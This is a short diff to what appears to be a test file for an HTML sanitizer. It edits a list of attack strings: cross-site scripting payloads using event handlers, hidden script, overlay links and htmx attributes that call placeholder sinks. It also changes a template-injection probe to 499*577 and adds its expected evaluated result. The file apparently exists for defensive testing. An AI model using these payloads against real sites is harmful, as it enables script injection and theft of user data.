@@ -72,11 +72,15 @@ ATTACKS = (
     '<marquee onstart="{run}">x</marquee><p onpointerover="{run}">x</p>',
     '<template><script>{run}</script></template><dialog open onclose="{run}">x',
     "<div style='position:fixed;inset:0'><a href='{sink}/cover'>x</a></div>",
-    "{{{{7*7}}}}{{% for x in [] %}}${{7*7}}#{{7*7}}<%= 7*7 %>{{{{config}}}}",
+    "{{{{499*577}}}}{{% for x in [] %}}${{499*577}}#{{499*577}}<%= 499*577 %>"
+    "{{{{config}}}}",
     "<div hx-get='{sink}/hx' hx-trigger=load hx-on:click=\"{run}\">x</div>",
     "<div data-hx-get='{own}/hx' data-hx-trigger=load data-stream='{sink}/sse'>x</div>",
 )
 """Each an element or several that would fetch, run, frame, submit or lead away."""
+
+EVALUATED = str(499 * 577)
+"""What a page would show that took their template syntax for its own."""
 
 DISGUISES: tuple[Callable[[str], str], ...] = (
     str,
